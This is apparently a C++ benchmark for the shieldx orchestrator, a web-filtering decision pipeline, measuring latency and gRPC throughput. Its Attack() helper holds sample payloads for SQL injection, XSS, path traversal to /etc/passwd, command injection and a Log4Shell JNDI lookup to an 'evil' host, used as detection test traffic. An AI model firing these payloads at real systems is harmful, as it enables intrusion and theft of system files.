// Orchestrator benchmarks (run on purpose; results in docs/benchmarks.md).
//
//   orchestrator_bench decide [--requests=N]
//     In-process pipeline::Pipeline::Decide latency (DESIGN.md §3 steps 1-9), one thread, on a
//     typical benign request (GET, 9 headers, 2 query arguments, a site with 3 routes and a rule
//     set of 10 rules) and on a 10 % attack mix. No rate limit applies (no I/O).
//
//   orchestrator_bench grpc [--seconds=S] [--inflight=K]
//     Starts real PostgreSQL, Redis and s3rver (libs/testing) and the real shieldx-orchestrator
//     binary, seeds a tenant through ConfigService, then drives DecisionService.Evaluate over
//     loopback with one async client thread keeping K calls in flight. Reports calls/s and the
//     latency distribution seen by the client. Everything (server, client, stores) shares the
//     machine's cores.
#include <grpcpp/grpcpp.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <memory>
#include <string>
#include <vector>

#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "libs/pipeline/pipeline.h"
#include "libs/testing/pg_server.h"
#include "libs/testing/process.h"
#include "libs/testing/prometheus_server.h"
#include "libs/testing/redis_server.h"
#include "libs/testing/s3_server.h"
#include "shieldx/common/v1/tenant.pb.h"
#include "shieldx/orchestrator/v1/orchestrator.grpc.pb.h"

namespace shieldx::bench {
namespace {

namespace v1 = ::shieldx::orchestrator::v1;

constexpr char kRules[] = R"rules(
rule "admin office" { when http.path starts_with "/admin" and not ip.src in {"10.0.0.0/8"} then block(403) }
rule "scanner ua" { when http.header["user-agent"] matches r"(?i)(sqlmap|nikto|nuclei)" then tag("scanner"), block(403) }
rule "waf high" { when waf.score >= 8 then block(403) }
rule "sqli" { when "sqli" in waf.category and waf.score >= 5 then block(403) }
rule "legacy" { when http.path starts_with "/old/" then divert("canary") }
rule "slow login" { when http.path == "/login" and http.method == "POST" then tarpit(500) }
rule "api key" { when http.path starts_with "/api/" and not exists(http.header["x-api-key"]) then block(401) }
rule "big query" { when len(http.query) > 2000 then block(414) }
rule "debug" { when http.args["debug"] == "1" then tag("debug") }
rule "risky" { when auth.risk > 0.9 then challenge }
)rules";

struct Percentiles {
  double p50, p90, p99, p999, max, mean;
};

Percentiles Summarize(std::vector<int64_t>& ns) {
  std::sort(ns.begin(), ns.end());
  auto at = [&](double q) {
    return static_cast<double>(
        ns[std::min(ns.size() - 1, static_cast<std::size_t>(q * ns.size()))]);
  };
  double sum = 0;
  for (int64_t v : ns) sum += static_cast<double>(v);
  return {at(0.5), at(0.9), at(0.99), at(0.999), static_cast<double>(ns.back()), sum / ns.size()};
}

pipeline::TenantConfig BenchTenant() {
  pipeline::TenantConfig c;
  c.tenant_id = "bench";
  c.version = 1;
  for (const char* name : {"web", "canary"}) {
    v1::Pool p;
    p.set_pool_id(absl::StrCat("p-", name));
    p.set_name(name);
    for (int i = 1; i <= 3; ++i) {
      v1::PoolMember* m = p.add_members();
      m->set_member_id(absl::StrCat("m", i));
      m->set_address(absl::StrCat("10.0.0.", i, ":8080"));
      m->set_weight(1);
    }
    p.set_algorithm(v1::BALANCING_ALGORITHM_P2C_EWMA);
    c.pools.push_back(p);
  }
  v1::Site s;
  s.set_site_id("s1");
  s.set_name("shop");
  s.add_hostnames("shop.example");
  s.set_default_pool_id("p-web");
  c.sites.push_back(s);
  const char* prefixes[] = {"/", "/api/", "/static/"};
  for (int i = 0; i < 3; ++i) {
    v1::Route r;
    r.set_route_id(absl::StrCat("r", i));
    r.set_site_id("s1");
    r.set_name(absl::StrCat("route", i));
    r.mutable_match()->set_path_prefix(prefixes[i]);
    r.set_pool_id("p-web");
    r.set_rule_set_id("rs1");
    c.routes.push_back(r);
  }
  pipeline::RuleSetRecord rs;
  rs.rule_set.set_rule_set_id("rs1");
  rs.rule_set.set_name("main");
  rs.rule_set.set_active_version(1);
  v1::RuleSetVersion v;
  v.set_rule_set_id("rs1");
  v.set_version(1);
  v.set_state(v1::RULE_SET_VERSION_STATE_ACTIVE);
  v.set_source(kRules);
  rs.versions.push_back(v);
  c.rule_sets.push_back(rs);
  return c;
}

detect::OwnedHttpRequest Typical(int i) {
  detect::OwnedHttpRequest r;
  r.method = "GET";
  r.uri = absl::StrCat("/products/", 1000 + i % 500, "?color=blue&page=", i % 7);
  r.client_ip = absl::StrCat("198.51.100.", i % 200);
  r.headers = {
      {"Host", "shop.example"},
      {"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"},
      {"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
      {"Accept-Language", "en-US,en;q=0.5"},
      {"Accept-Encoding", "gzip, deflate, br"},
      {"Referer", "https://shop.example/catalog?page=2"},
      {"Cookie", "sid=4f1c2e9a8b7d6c5e; theme=dark; consent=1"},
      {"Connection", "keep-alive"},
      {"Upgrade-Insecure-Requests", "1"}};
  return r;
}

detect::OwnedHttpRequest Attack(int i) {
  detect::OwnedHttpRequest r = Typical(i);
  static const char* kPayloads[] = {
      "id=1%27%20OR%201%3D1--", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
      "file=..%2F..%2F..%2Fetc%2Fpasswd", "cmd=%3Bcat%20%2Fetc%2Fpasswd",
      "x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D"};
  r.uri = absl::StrCat("/search?", kPayloads[i % 5]);
  return r;
}

int Decide(int requests) {
  pipeline::MemberStateRegistry members;
  pipeline::LocalRateLimiter limiter;
  pipeline::EventQueue events(1 << 16);
  pipeline::PipelineDeps deps;
  deps.rate_limiter = &limiter;
  deps.events = &events;
  auto p = pipeline::Pipeline::Create({}, deps);
  if (!p.ok()) {
    std::fprintf(stderr, "%s\n", std::string(p.status().message()).c_str());
    return 1;
  }
  pipeline::CompileContext ctx{&members, nullptr, nullptr, 0};
  auto tenant = pipeline::CompileTenant(BenchTenant(), ctx);
  if (!tenant.ok()) {
    std::fprintf(stderr, "%s\n", std::string(tenant.status().message()).c_str());
    return 1;
  }
  std::map<std::string, std::shared_ptr<const pipeline::CompiledTenant>, std::less<>> tenants;
  tenants["bench"] = *tenant;
  (*p)->SetSnapshot(pipeline::Snapshot::Assemble(1, tenants));
  std::vector<detect::OwnedHttpRequest> benign, attacks;
  for (int i = 0; i < 1000; ++i) benign.push_back(Typical(i));
  for (int i = 0; i < 100; ++i) attacks.push_back(Attack(i));
  std::vector<std::unique_ptr<pipeline::DecisionEvent>> sink;
  auto run = [&](bool mix, std::vector<int64_t>* ns, int* blocked) {
    for (int i = 0; i < requests; ++i) {
      const bool attack = mix && i % 10 == 0;
      const detect::OwnedHttpRequest& r =
          attack ? attacks[i % attacks.size()] : benign[i % benign.size()];
      const detect::HttpRequest view = r.view();
      const auto t0 = std::chrono::steady_clock::now();
      pipeline::Decision d = (*p)->Decide(view, {});
      const auto t1 = std::chrono::steady_clock::now();
      ns->push_back(std::chrono::duration_cast<std::chrono::nanoseconds>(t1 - t0).count());
      if (d.action == pipeline::Action::kBlock) ++*blocked;
      if (i % 1024 == 0) {
        sink.clear();
        events.Drain(&sink, 1 << 16);
      }
    }
  };
  std::vector<int64_t> warm;
  int ignored = 0;
  run(true, &warm, &ignored);  // warm-up: caches, scratch buffers, RE2 DFA states
  for (bool mix : {false, true}) {
    std::vector<int64_t> ns;
    int blocked = 0;
    run(mix, &ns, &blocked);
    Percentiles s = Summarize(ns);
    std::printf(
        "decide %-16s n=%d blocked=%d mean=%.1fus p50=%.1fus p90=%.1fus p99=%.1fus p99.9=%.1fus "
        "max=%.1fus\n",
        mix ? "mix(10% attack)" : "benign", requests, blocked, s.mean / 1e3, s.p50 / 1e3,
        s.p90 / 1e3, s.p99 / 1e3, s.p999 / 1e3, s.max / 1e3);
  }
  // The detection engine alone on the same benign requests (to attribute the pipeline's cost).
  const detect::Inspector& inspector = (*p)->inspector(detect::Sensitivity::kMedium);
  auto scratch = inspector.NewScratch();
  std::vector<int64_t> ns;
  for (int i = 0; i < requests; ++i) {
    const detect::HttpRequest view = benign[i % benign.size()].view();
    const auto t0 = std::chrono::steady_clock::now();
    detect::Verdict v = inspector.Inspect(view, *scratch);
    const auto t1 = std::chrono::steady_clock::now();
    ns.push_back(std::chrono::duration_cast<std::chrono::nanoseconds>(t1 - t0).count());
    if (v.score < 0) std::printf("impossible\n");
  }
  Percentiles s = Summarize(ns);
  std::printf(
      "inspect only (benign)   n=%d mean=%.1fus p50=%.1fus p90=%.1fus p99=%.1fus p99.9=%.1fus\n",
      requests, s.mean / 1e3, s.p50 / 1e3, s.p90 / 1e3, s.p99 / 1e3, s.p999 / 1e3);
  return 0;
}

std::string ActorBin() {
  common::v1::Actor a;
  a.set_kind(common::v1::ACTOR_KIND_SERVICE);
  a.set_actor_id("bench");
  a.set_tenant_id("bench");
  for (const char* p : {"decisions.evaluate", "config.read", "config.write", "rulesets.read",
                        "rulesets.write", "rulesets.activate"}) {
    a.add_permissions(p);
  }
  return a.SerializeAsString();
}

#define BENCH_CHECK(cond, msg)                                     \
  if (!(cond)) {                                                   \
    std::fprintf(stderr, "bench: %s\n", std::string(msg).c_str()); \
    return 1;                                                      \
  }

int Grpc(int seconds, int inflight, int allow_log_permille) {
  auto pg = testing::PgServer::Start({.dir_prefix = "shieldx-pg-orch-bench"});
  BENCH_CHECK(pg.ok(), pg.status().ToString());
  BENCH_CHECK((*pg)->CreateDatabase("orch").ok(), "create database");
  auto redis = testing::RedisServer::Start();
  BENCH_CHECK(redis.ok(), redis.status().ToString());
  auto s3 = testing::S3Server::Start(
      {.source_root = SHIELDX_SOURCE_ROOT, .buckets = {"shieldx", "shieldx-evidence"}});
  BENCH_CHECK(s3.ok(), s3.status().ToString());
  auto dir = testing::TempDir::Create("shieldx-orch-bench");
  BENCH_CHECK(dir.ok(), "temp dir");
  const int grpc_port = *testing::PickFreePort();
  const int admin_port = *testing::PickFreePort();
  testing::Subprocess::Options o;
  o.argv = {std::string(SHIELDX_BINARY_DIR) + "/bin/shieldx-orchestrator"};
  o.log_path = dir->path() + "/orchestrator.log";
  o.env = {
      "SHIELDX_ORCHESTRATOR_PG_DSN=" + (*pg)->ConnectionString("orch"),
      "SHIELDX_ORCHESTRATOR_REDIS_ADDR=" + (*redis)->address(),
      "SHIELDX_ORCHESTRATOR_S3_ENDPOINT=" + (*s3)->endpoint(),
      "SHIELDX_ORCHESTRATOR_S3_ACCESS_KEY=S3RVER",
      "SHIELDX_ORCHESTRATOR_S3_SECRET_KEY=S3RVER",
      absl::StrCat("SHIELDX_ORCHESTRATOR_GRPC_LISTEN=127.0.0.1:", grpc_port),
      absl::StrCat("SHIELDX_ORCHESTRATOR_ADMIN_LISTEN=127.0.0.1:", admin_port),
      "SHIELDX_ORCHESTRATOR_LOG_LEVEL=warn",
      "SHIELDX_ORCHESTRATOR_HEALTH_CHECKS=false",
      absl::StrCat("SHIELDX_ORCHESTRATOR_ALLOW_EVENT_SAMPLE_RATE=", allow_log_permille / 1000.0)};
  auto proc = testing::Subprocess::Start(o);
  BENCH_CHECK(proc.ok(), proc.status().ToString());
  bool ready = false;
  for (int i = 0; i < 600 && !ready; ++i) {
    auto r = testing::HttpGet(absl::StrCat("http://127.0.0.1:", admin_port, "/readyz"),
                              absl::Seconds(1));
    ready = r.ok() && r->status == 200;
    if (!ready) absl::SleepFor(absl::Milliseconds(50));
  }
  BENCH_CHECK(ready, "orchestrator not ready; log " + o.log_path);

  auto channel = grpc::CreateChannel(absl::StrCat("127.0.0.1:", grpc_port),
                                     grpc::InsecureChannelCredentials());
  auto config = v1::ConfigService::NewStub(channel);
  auto decisions = v1::DecisionService::NewStub(channel);
  const std::string actor = ActorBin();
  auto ctx = [&] {
    auto c = std::make_unique<grpc::ClientContext>();
    c->AddMetadata("x-shieldx-actor-bin", actor);
    return c;
  };
  // Seed through the API: pools, site, rule set (active), three routes.
  const pipeline::TenantConfig t = BenchTenant();
  std::map<std::string, std::string> pool_ids;
  for (const v1::Pool& p : t.pools) {
    v1::CreatePoolRequest req;
    req.set_tenant_id("bench");
    *req.mutable_pool() = p;
    v1::CreatePoolResponse resp;
    grpc::Status s = config->CreatePool(ctx().get(), req, &resp);
    BENCH_CHECK(s.ok(), s.error_message());
    pool_ids[p.pool_id()] = resp.pool().pool_id();
  }
  v1::CreateSiteRequest sreq;
  sreq.set_tenant_id("bench");
  *sreq.mutable_site() = t.sites[0];
  sreq.mutable_site()->set_default_pool_id(pool_ids["p-web"]);
  v1::CreateSiteResponse site;
  BENCH_CHECK(config->CreateSite(ctx().get(), sreq, &site).ok(), "site");
  v1::CreateRuleSetRequest rsreq;
  rsreq.set_tenant_id("bench");
  rsreq.mutable_rule_set()->set_name("main");
  v1::CreateRuleSetResponse rs;
  BENCH_CHECK(config->CreateRuleSet(ctx().get(), rsreq, &rs).ok(), "rule set");
  v1::CreateRuleSetVersionRequest vreq;
  vreq.set_tenant_id("bench");
  vreq.set_rule_set_id(rs.rule_set().rule_set_id());
  vreq.set_source(kRules);
  v1::CreateRuleSetVersionResponse ver;
  BENCH_CHECK(config->CreateRuleSetVersion(ctx().get(), vreq, &ver).ok(), "version");
  v1::ActivateRuleSetRequest areq;
  areq.set_tenant_id("bench");
  areq.set_rule_set_id(rs.rule_set().rule_set_id());
  areq.set_version(ver.version().version());
  v1::ActivateRuleSetResponse act;
  grpc::Status as = config->ActivateRuleSet(ctx().get(), areq, &act);
  BENCH_CHECK(as.ok(), as.error_message());
  int64_t last_version = 0;
  for (const v1::Route& r : t.routes) {
    v1::CreateRouteRequest req;
    req.set_tenant_id("bench");
    *req.mutable_route() = r;
    req.mutable_route()->set_site_id(site.site().site_id());
    req.mutable_route()->set_pool_id(pool_ids[r.pool_id()]);
    req.mutable_route()->set_rule_set_id(rs.rule_set().rule_set_id());
    v1::CreateRouteResponse resp;
    grpc::Status s = config->CreateRoute(ctx().get(), req, &resp);
    BENCH_CHECK(s.ok(), s.error_message());
    last_version = resp.config_version();
  }
  for (int i = 0; i < 200; ++i) {
    v1::GetConfigVersionRequest g;
    g.set_tenant_id("bench");
    v1::GetConfigVersionResponse v;
    if (config->GetConfigVersion(ctx().get(), g, &v).ok() && v.applied_version() == last_version)
      break;
    absl::SleepFor(absl::Milliseconds(50));
  }

  // Requests: 90 % typical, 10 % attacks, prebuilt.
  std::vector<v1::EvaluateRequest> reqs;
  for (int i = 0; i < 1000; ++i) {
    const detect::OwnedHttpRequest r = i % 10 == 0 ? Attack(i) : Typical(i);
    v1::EvaluateRequest e;
    e.set_tenant_id("bench");
    common::v1::HttpRequest* h = e.mutable_request();
    h->set_method(r.method);
    h->set_host("shop.example");
    const std::size_t q = r.uri.find('?');
    h->set_path(r.uri.substr(0, q));
    if (q != std::string::npos) h->set_query(r.uri.substr(q + 1));
    h->set_client_ip(r.client_ip);
    for (const auto& [k, v] : r.headers) {
      common::v1::Header* hh = h->add_headers();
      hh->set_name(k);
      hh->set_value(v);
    }
    reqs.push_back(std::move(e));
  }

  struct Call {
    grpc::ClientContext ctx;
    v1::EvaluateResponse resp;
    grpc::Status status;
    std::unique_ptr<grpc::ClientAsyncResponseReader<v1::EvaluateResponse>> reader;
    std::chrono::steady_clock::time_point start;
  };
  grpc::CompletionQueue cq;
  int next = 0;
  auto launch = [&] {
    auto* c = new Call();
    c->ctx.AddMetadata("x-shieldx-actor-bin", actor);
    c->start = std::chrono::steady_clock::now();
    c->reader = decisions->PrepareAsyncEvaluate(&c->ctx, reqs[next++ % reqs.size()], &cq);
    c->reader->StartCall();
    c->reader->Finish(&c->resp, &c->status, c);
  };
  auto drive = [&](absl::Duration d, std::vector<int64_t>* ns, int64_t* errors, int64_t* blocked) {
    for (int i = 0; i < inflight; ++i) launch();
    const absl::Time end = absl::Now() + d;
    int outstanding = inflight;
    while (outstanding > 0) {
      void* tag;
      bool ok;
      if (!cq.Next(&tag, &ok)) break;
      auto* c = static_cast<Call*>(tag);
      const auto t1 = std::chrono::steady_clock::now();
      if (ns)
        ns->push_back(std::chrono::duration_cast<std::chrono::nanoseconds>(t1 - c->start).count());
      if (!c->status.ok()) ++*errors;
      if (c->resp.decision().action() == common::v1::ACTION_BLOCK) ++*blocked;
      delete c;
      --outstanding;
      if (absl::Now() < end) {
        launch();
        ++outstanding;
      }
    }
  };
  int64_t errors = 0, blocked = 0;
  drive(absl::Seconds(2), nullptr, &errors, &blocked);  // warm-up
  errors = blocked = 0;
  std::vector<int64_t> ns;
  const absl::Time t0 = absl::Now();
  drive(absl::Seconds(seconds), &ns, &errors, &blocked);
  const double elapsed = absl::ToDoubleSeconds(absl::Now() - t0);
  Percentiles s = Summarize(ns);
  std::printf("allow decisions logged: %.1f %%\n", allow_log_permille / 10.0);
  std::printf(
      "grpc Evaluate inflight=%d calls=%zu errors=%lld blocked=%lld elapsed=%.1fs "
      "throughput=%.0f/s "
      "mean=%.2fms p50=%.2fms p90=%.2fms p99=%.2fms p99.9=%.2fms max=%.2fms\n",
      inflight, ns.size(), static_cast<long long>(errors), static_cast<long long>(blocked), elapsed,
      ns.size() / elapsed, s.mean / 1e6, s.p50 / 1e6, s.p90 / 1e6, s.p99 / 1e6, s.p999 / 1e6,
      s.max / 1e6);
  auto metrics =
      testing::HttpGet(absl::StrCat("http://127.0.0.1:", admin_port, "/metrics"), absl::Seconds(2));
  if (metrics.ok()) {
    for (const char* name : {"shieldx_pipeline_duration_seconds_sum{front_end=\"grpc\"}",
                             "shieldx_pipeline_duration_seconds_count{front_end=\"grpc\"}",
                             "shieldx_decision_events_dropped_total"}) {
      const std::size_t at = metrics->body.find(name);
      if (at != std::string::npos) {
        std::printf("  %s\n", metrics->body.substr(at, metrics->body.find('\n', at) - at).c_str());
      }
    }
  }
  proc->Stop(absl::Seconds(5));
  return errors == 0 ? 0 : 2;
}

}  // namespace
}  // namespace shieldx::bench

int main(int argc, char** argv) {
  std::string mode = argc > 1 ? argv[1] : "decide";
  int requests = 200000, seconds = 10, inflight = 32, allow_log_permille = 1000;
  for (int i = 2; i < argc; ++i) {
    std::string a = argv[i];
    auto value = [&](const char* flag, int* out) {
      const std::string prefix = absl::StrCat("--", flag, "=");
      if (a.rfind(prefix, 0) == 0 && !absl::SimpleAtoi(a.substr(prefix.size()), out)) {
        std::fprintf(stderr, "bad %s\n", a.c_str());
        std::exit(2);
      }
    };
    value("requests", &requests);
    value("seconds", &seconds);
    value("inflight", &inflight);
    value("allow_log_permille", &allow_log_permille);
  }
  if (mode == "decide") return shieldx::bench::Decide(requests);
  if (mode == "grpc") return shieldx::bench::Grpc(seconds, inflight, allow_log_permille);
  std::fprintf(stderr,
               "usage: orchestrator_bench decide|grpc [--requests=N] [--seconds=S] [--inflight=K] "
               "[--allow_log_permille=P]\n");
  return 2;
}
